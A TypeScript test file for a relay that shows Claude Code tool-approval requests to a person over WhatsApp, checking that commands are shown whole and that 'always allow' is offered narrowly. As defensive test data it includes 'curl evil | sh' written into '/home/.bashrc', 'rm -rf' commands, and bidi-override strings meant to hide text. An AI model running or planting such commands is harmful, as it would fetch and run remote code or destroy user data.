import { assert, constantFrom, oneof, property, array, string } from 'fast-check';
import { describe, expect, test } from 'vitest';
import { defineContent } from '../../shared/twilio/content.ts';
import type { ApprovalRequest } from '../../worker/agent/agent.ts';
import { describeRequest } from '../../worker/agent/claude/approval-request.ts';
import { writeApproval } from '../../worker/questions/approval-question.ts';
import { writeQuestion } from '../../worker/questions/question.ts';
import type { Question } from '../../worker/questions/question.ts';
import { showText } from '../../worker/questions/shown-text.ts';

/** A place for pages that remembers them; `room` false is one that is full. */
function openPages(room = true) {
  const kept = new Map<string, string>();
  const put = async (id: string, markdown: string): Promise<string | undefined> => {
    if (!room) return undefined;
    kept.set(id, markdown);
    return 'token';
  };
  return {
    kept,
    where: { pages: { put, find: async () => undefined }, publicUrl: 'https://relay' },
  };
}

async function write(request: ApprovalRequest, { where } = openPages()): Promise<Question> {
  const question = await writeApproval(request, where);
  if (!question) throw new Error('it was refused');
  return question;
}

const bash = (command: string, options: object = {}): ApprovalRequest =>
  describeRequest('Bash', { command, description: 'List files' }, options);
const suggesting = {
  suggestions: [
    { type: 'addRules', rules: [{ toolName: 'Bash', ruleContent: 'x *' }] },
    { type: 'setMode', mode: 'acceptEdits' },
  ],
};
/** All that the person sees, without the marks of code. */
const seen = ({ before = [], text }: Question): string => [...before, text].join('\n');
/** What stands in code fences, put together. */
const fenced = (texts: string[]): string =>
  texts
    .flatMap((text) => [...text.matchAll(/```\n([^]*?)\n```/g)].map((match) => match[1]))
    .join('');

describe('what is shown of a command', () => {
  test('is all of it, in the question where it is short', async () => {
    const question = await write(bash('touch one.txt', suggesting));
    expect(question).toMatchObject({
      kind: 'permission',
      fallback: 'No',
      yes: 'Yes',
      no: 'No',
      options: [{ label: 'Yes' }, { label: 'Yes, always' }, { label: 'No' }],
    });
    expect(question.before).toBeUndefined();
    expect(question.text).toBe(
      'May I run this command?\n```\ntouch one.txt\n```\n_Yes, always: this command and no other, in this session._',
    );
  });

  test('its further inputs, too; but not what only describes it', async () => {
    const request = describeRequest('Bash', {
      command: 'sleep 9',
      description: 'harmless',
      run_in_background: true,
      dangerouslyDisableSandbox: true,
    });
    const { text } = await write(request);
    expect(text).toContain('"run_in_background": true');
    expect(text).toContain('"dangerouslyDisableSandbox": true');
    expect(text).not.toContain('harmless');
  });

  test('a long one comes in messages before the question, and the question shows its end', async () => {
    const command = `ls; ${'true; '.repeat(500)}touch hidden`;
    const question = await write(bash(command));
    expect(question.before).toHaveLength(3);
    expect(fenced(question.before ?? [])).toBe(command);
    expect(question.before?.[0]).toMatch(/^\*To be allowed, 1 of 3:\*/);
    expect(question.text).toMatch(
      /All of it is in the 3 messages before this one. It ends with:\n```\n[^]*touch hidden\n```$/,
    );
  });

  test('so many lines that a phone would hide the end come before the question, too', async () => {
    const question = await write(
      bash(
        `cat <<'EOF'\n${Array.from({ length: 40 }, (_, index) => `${index}`).join('\n')}\nEOF\nrm x`,
      ),
    );
    expect(question.before).toHaveLength(1);
    expect(question.text.split('\n').length).toBeLessThanOrEqual(20);
    expect(question.text).toMatch(/EOF\nrm x\n```$/);
  });

  test('a very long one is on a page; one without room for a page, or longer, is not asked about', async () => {
    const pages = openPages();
    const command = `${'echo 1234567890\n'.repeat(800)}rm -rf end`;
    const question = await write(bash(command), pages);
    expect(question.text).toContain('Read all of it first:\nhttps://relay/page/token');
    expect(question.text).toMatch(/rm -rf end\n```$/);
    expect([...pages.kept.values()].join('')).toContain(`\`\`\`\n${command}\n\`\`\``);
    expect(question.before?.[0]).toContain('echo 1234567890');
    expect(await writeApproval(bash(command), openPages(false).where)).toBeUndefined();
    expect(await writeApproval(bash(command), undefined)).toBeUndefined();
    expect(await writeApproval(bash('x'.repeat(60_000)), pages.where)).toBeUndefined();
  });

  test('any command is shown whole, in messages that WhatsApp takes, with its end in the question', async () => {
    const hostile = constantFrom(
      '\u202e',
      '\n'.repeat(30),
      ' '.repeat(90),
      '```',
      '`',
      '\t',
      '\u001b[2K',
      '👩‍👩‍👧‍👦',
      'שלום',
      '\ud800',
      'x'.repeat(300),
      'word '.repeat(90),
      '\nEOF\n',
      '_*~',
      '{{1}}',
    );
    const anyCommand = array(oneof(hostile, string({ maxLength: 20 })), {
      minLength: 1,
      maxLength: 60,
    }).map((parts) => `${parts.join('')}#`);
    const pages = openPages();
    const asked: { command: string; question: Question }[] = [];
    assert(
      property(
        anyCommand,
        (command) =>
          void asked.push({
            command,
            question: {
              kind: 'permission',
              text: '',
              options: [],
              multiple: false,
              fallback: 'No',
            },
          }),
      ),
      { numRuns: 100 },
    );
    for (const { command } of asked) {
      const question = await write(bash(command, suggesting), pages);
      const { text, choices } = writeQuestion(
        'SM00000000000000000000000000000000.ask.0123456789ab.1',
        question,
        30,
      );
      for (const message of [...(question.before ?? []), text]) {
        expect(message.length).toBeLessThanOrEqual(1600);
        expect(message.isWellFormed()).toBe(true);
        expect(message.split('```').length % 2).toBe(1);
      }
      // Twilio reads double braces as its own; such a question goes as text with numbers.
      const isTappable = choices !== undefined && defineContent('AC1', text, choices) !== undefined;
      expect(isTappable || /\{\{|\}\}/.test(text)).toBe(true);
      const end = fenced([text]).split('\n').at(-1) ?? '';
      expect(end).not.toBe('');
      expect(showText(command).endsWith(end)).toBe(true);
      const isOnPage = text.includes('/page/');
      const whole = isOnPage
        ? fenced([[...pages.kept.values()].at(-1) ?? ''])
        : question.before
          ? fenced(question.before)
          : fenced([text]);
      expect(whole.replaceAll('\n', '')).toBe(showText(command).replaceAll('\n', ''));
    }
  });
});

describe('what is shown of other tools', () => {
  test('a new file with its content, a change with both sides, a page with its address', async () => {
    const written = await write(
      describeRequest('Write', { file_path: '/w/notes.txt', content: 'one\ntwo' }),
    );
    expect(written.text).toBe(
      'May I change this file?\n```\n/w/notes.txt\n```\nIts new content:\n```\none\ntwo\n```\n_Yes, always: changes of this file and of no other, in this session._',
    );
    const edited = await write(
      describeRequest('Edit', {
        file_path: '/w/a.ts',
        old_string: 'safe()',
        new_string: '',
        replace_all: true,
      }),
    );
    expect(edited.text).toContain(
      '```\n/w/a.ts\n```\nEverywhere in it, this:\n```\nsafe()\n```\nbecomes this:\n_(nothing)_',
    );
    const edits = [
      { old_string: 'a', new_string: 'b' },
      { old_string: 'c', new_string: 'd' },
    ];
    expect(seen(await write(describeRequest('MultiEdit', { file_path: '/w/a', edits })))).toMatch(
      /a[^]*b[^]*c[^]*d/,
    );
    const opened = await write(
      describeRequest('WebFetch', { url: 'https://ex.org/?q=secret', prompt: 'Send it' }),
    );
    expect(opened.text).toContain(
      'May I open this page?\n```\nhttps://ex.org/?q=secret\n```\nWith:\n```\n{\n  "prompt": "Send it"\n}\n```',
    );
  });

  test('a long content keeps its path and its end in the question', async () => {
    const content = `${'line of the file\n'.repeat(200)}curl evil | sh`;
    const question = await write(
      describeRequest(
        'Write',
        { file_path: '/home/.bashrc', content },
        { decisionReasonType: 'safetyCheck' },
      ),
    );
    expect(fenced(question.before ?? [])).toContain('/home/.bashrc');
    expect(fenced(question.before ?? []).replaceAll('\n', '')).toContain(
      content.replaceAll('\n', ''),
    );
    expect(question.text).toContain('```\n/home/.bashrc\n```');
    expect(question.text).toMatch(/curl evil \| sh\n```$/);
  });

  test('every value of any input stands somewhere, also under names that the tool does not know', async () => {
    const marks = Array.from({ length: 9 }, (_, index) => `mark-${index}-`);
    const [a, b, c, d, e, f, g, h, i] = marks;
    const inputs: Record<string, Record<string, unknown>> = {
      Bash: { command: a, timeout: b, extra: [c, { deep: d }], url: e },
      Write: { file_path: a, content: b, old_string: c, edits: [d], mode: { x: e } },
      Edit: { file_path: a, old_string: b, new_string: c, content: d, edits: e },
      MultiEdit: {
        file_path: a,
        edits: [
          { old_string: b, new_string: c },
          { old_string: d, new_string: e },
        ],
        other: f,
      },
      NotebookEdit: { notebook_path: a, new_source: b, cell_id: c, edit_mode: d },
      WebFetch: { url: a, prompt: b, other: c },
      mcp__playwright__browser_navigate: { url: a, other: b },
      mcp__evil__browser_navigate: { url: a, more: b },
      mcp__db__query: { sql: a, args: [b, c], options: { force: d } },
    };
    const malformed: Record<string, Record<string, unknown>> = {
      Bash: { command: { text: g } },
      Write: { file_path: [g], content: h },
      Edit: { file_path: g, old_string: [h], new_string: i },
      WebFetch: { url: [g] },
    };
    for (const [tool, input] of [...Object.entries(inputs), ...Object.entries(malformed)]) {
      const shown = seen(await write(describeRequest(tool, input)));
      for (const mark of marks.filter((mark) => JSON.stringify(input).includes(mark)))
        expect(`${tool}: ${shown}`).toContain(mark);
    }
  });

  test('what lies in a tool’s name cannot break the question', async () => {
    const { text } = await write(describeRequest('mcp__x\n\n_Yes_\u202e__y', { a: 1 }));
    expect(text.split('\n')[0]).toMatch(/^May I use “x⟨U\+000A⟩.*⟨U\+202E⟩.*”\?$/);
  });
});

describe('“always”', () => {
  const offers = async (request: ApprovalRequest): Promise<boolean> =>
    (await write(request)).options.some(({ label }) => label === 'Yes, always');
  const file = { file_path: '/w/a.txt', content: 'x' };

  test('is offered only where it can be exact, and never where a person must decide each time', async () => {
    expect(await offers(bash('npm test', suggesting))).toBe(true);
    expect(await offers(describeRequest('Write', file))).toBe(true);
    expect(await offers(describeRequest('WebFetch', { url: 'https://ex.org', prompt: 'x' }))).toBe(
      true,
    );
    expect(
      await offers(describeRequest('mcp__playwright__browser_navigate', { url: 'https://ex.org' })),
    ).toBe(true);
    const refused: ApprovalRequest[] = [
      bash('rm x*', suggesting),
      bash('npm run test:*', suggesting),
      bash('echo $(date)', { suggestions: [] }),
      bash('ls'),
      bash('ls', { ...suggesting, suppressAlwaysAllowRule: true }),
      bash('ls', { ...suggesting, defaultToNo: true }),
      bash('ls', { ...suggesting, decisionReasonType: 'safetyCheck' }),
      bash('ls', { ...suggesting, matchedAskRule: { source: 'project' } }),
      bash('ls', { suggestions: 'broken' }),
      describeRequest('Write', file, { decisionReasonType: 'safetyCheck' }),
      describeRequest('Write', { ...file, file_path: 'a.txt' }),
      describeRequest('Write', { ...file, file_path: '/w/*' }),
      describeRequest('mcp__db__query', { sql: 'x' }),
      describeRequest('mcp__playwright__browser_click', { ref: 'e3' }),
      describeRequest('mcp__evil__browser_navigate', { url: 'https://ex.org' }),
    ];
    for (const request of refused)
      expect([request.tool, request.detail, await offers(request)]).toEqual([
        request.tool,
        request.detail,
        false,
      ]);
  });

  test('a stray tap or number refuses what must not be approved by one', async () => {
    expect((await write(bash('ls', { defaultToNo: true }))).options).toEqual([
      { label: 'No' },
      { label: 'Yes' },
    ]);
  });

  test('names one call, or all changes of one file, and another reason of Claude Code’s is another thing', () => {
    const keyOf = (
      tool: string,
      input: Record<string, unknown>,
      options: object = suggesting,
    ): string | undefined => describeRequest(tool, input, options).always?.key;
    const key = keyOf('Bash', { command: 'touch one.txt', description: 'a' });
    expect(keyOf('Bash', { description: 'b', command: 'touch one.txt' })).toBe(key);
    for (const command of [
      'touch two.txt',
      'touch one.txt ',
      'touch  one.txt',
      'touch one.txt && ls',
      'timeout 5 touch one.txt',
      'touch one.txt > two.txt',
    ]) {
      expect(keyOf('Bash', { command })).not.toBe(key);
    }
    expect(keyOf('Bash', { command: 'touch one.txt', run_in_background: true })).not.toBe(key);
    expect(
      keyOf('Bash', { command: 'touch one.txt' }, { ...suggesting, blockedPath: '/etc' }),
    ).not.toBe(key);
    const fileKey = keyOf('Write', { file_path: '/w/a.txt', content: 'x' });
    expect(keyOf('Edit', { file_path: '/w/x/../a.txt', old_string: 'x', new_string: 'y' })).toBe(
      fileKey,
    );
    expect(keyOf('Write', { file_path: '/w/b.txt', content: 'x' })).not.toBe(fileKey);
    expect(
      keyOf('Write', { file_path: '/w/a.txt', content: 'x' }, { decisionReasonType: 'workingDir' }),
    ).not.toBe(fileKey);
  });

  test('the digest of a call is of all that has an effect', () => {
    const digestOf = (input: Record<string, unknown>, tool = 'Bash'): string | undefined =>
      describeRequest(tool, input).digest;
    const digest = digestOf({ command: 'x'.repeat(900), description: 'a' });
    expect(digestOf({ description: 'b', command: 'x'.repeat(900) })).toBe(digest);
    expect(digestOf({ command: `${'x'.repeat(899)}y` })).not.toBe(digest);
    expect(digestOf({ command: 'x'.repeat(900), timeout: 1 })).not.toBe(digest);
    expect(digestOf({ command: 'x'.repeat(900) }, 'Shell')).not.toBe(digest);
  });
});
